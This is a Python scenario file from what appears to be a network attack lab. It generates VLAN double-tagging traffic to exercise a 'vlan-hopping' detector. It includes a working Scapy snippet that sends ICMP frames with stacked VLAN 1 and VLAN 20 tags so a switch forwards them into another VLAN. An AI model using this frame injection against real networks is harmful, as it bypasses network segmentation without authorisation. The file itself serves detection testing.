"""Frames with two VLAN tags, which a switch may carry into another VLAN."""

from lab.range import Range
from lab.scenario import Scenario

# yersinia's double tagging asks for its own values on a screen; Scapy says the same frame by frame.
PROGRAM = """
for number in range(40):
    sendp(Ether(src=sys.argv[1], dst="ff:ff:ff:ff:ff:ff") / Dot1Q(vlan=1) / Dot1Q(vlan=20)
          / IP(src="10.20.0.66", dst="10.20.20.9") / ICMP(id=7, seq=number) / b"hop", inter=0.1, count=1)
"""


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    net.everyday()
    net.loop(attacker, "ping -n -q -c 1 -W 1 10.20.0.10", 1.0)
    net.quiet(2)
    with net.attack(
        "vlan-hopping",
        by=attacker,
        attackers=[attacker.mac],
        victims=["10.20.20.9"],
        frames="vlan 1 and vlan 20",
    ):
        net.scapy(attacker, "import sys\n" + PROGRAM, attacker.mac)
    net.quiet(3)


SCENARIO = Scenario(
    name="vlan-hopping-double-tag",
    about="A host sends echo requests with two VLAN tags, so that a switch carries them into VLAN 20.",
    detectors=("vlan-hopping",),
    vlan_switch=True,
    run=run,
)
